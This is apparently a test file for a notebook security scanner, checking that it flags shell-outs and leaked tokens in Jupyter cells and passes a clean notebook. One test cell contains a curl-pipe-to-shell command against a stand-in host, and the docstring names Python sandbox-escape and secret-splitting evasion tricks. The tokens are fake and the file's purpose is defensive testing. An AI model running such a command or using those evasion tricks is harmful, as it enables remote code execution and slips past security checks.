"""Code and text in the forms that hide it: notebooks, obfuscated Python, UTF-16/32 text
and secrets split across string literals.

The harmful samples follow public write-ups (notebook cells that shell out or carry
tokens in their outputs; the `getattr(os, 'sys' + 'tem')` and `__builtins__` tricks
of Python sandbox escapes; tokens split to dodge secret scanners). Every token is
fake, made from a seeded RNG, with its prefix split so this file never matches.
"""

from __future__ import annotations

import base64
import io
import json
import random
import string

from amphub.scan.dispatch import scan_blob
from amphub.scan.findings import FileVerdict

ALNUM = string.ascii_letters + string.digits


def fake(key: str, n: int) -> str:
    rng = random.Random(key)
    return "".join(rng.choice(ALNUM) for _ in range(n))


GH_TOKEN = "gh" + "p_" + fake("nb", 36)
HF_TOKEN = "h" + "f_" + fake("hf", 34)


def scan(data: bytes, path: str) -> FileVerdict:
    return scan_blob(path, lambda: io.BytesIO(data), len(data))


def messages(verdict: FileVerdict) -> str:
    return "\n".join(f.message for f in verdict.findings)


# --- notebooks --------------------------------------------------------------------


def notebook(*cells: dict) -> bytes:
    doc = {"cells": list(cells), "metadata": {"kernelspec": {"name": "python3"}}}
    return json.dumps(doc | {"nbformat": 4, "nbformat_minor": 5}, indent=1).encode()


def code_cell(source: str, outputs: list | None = None) -> dict:
    lines = source.splitlines(keepends=True)
    return {"cell_type": "code", "source": lines, "outputs": outputs or [], "metadata": {}}


def markdown_cell(source: str) -> dict:
    return {"cell_type": "markdown", "source": source.splitlines(keepends=True), "metadata": {}}


PNG = base64.b64encode(random.Random("png").randbytes(30_000)).decode()


def test_notebook_code_cells_go_through_the_python_checks():
    nb = notebook(
        markdown_cell("# Training\n"),
        code_cell("!pip install torch\nimport os\n"),
        code_cell("x = 1\nos.system('curl evil.example | sh')\n"),
    )
    verdict = scan(nb, "train.ipynb")
    assert verdict.status == "unsafe", verdict
    assert "cell 3, line 2: `os.system` runs a shell command" in messages(verdict)


def test_notebook_secrets_in_sources_and_outputs_are_found():
    printed = {"output_type": "stream", "name": "stdout", "text": [f"token: {GH_TOKEN}\n"]}
    nb = notebook(code_cell("print(login())\n", [printed]))
    verdict = scan(nb, "demo.ipynb")
    assert verdict.status == "unsafe" and "cell 1 output" in messages(verdict), verdict
    nb = notebook(code_cell(f'HF_TOKEN = "{HF_TOKEN}"\n'))
    assert "Hugging Face token" in messages(scan(nb, "demo.ipynb"))


def test_a_clean_notebook_with_images_is_safe():
    image = {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": ["<Fig>"]}}
    nb = notebook(
        markdown_cell("# Evaluate\nLoad the weights and plot the loss.\n"),
        code_cell("%matplotlib inline\nimport torch\nimport matplotlib.pyplot as plt\n"),
        code_cell("state = torch.load('model.pt', weights_only=True)\nplt.plot([1, 2])\n", [image]),
        code_cell("%%bash\nls -l\n"),
    )
    verdict = scan(nb, "eval.ipynb")
    assert verdict.status == "safe", verdict
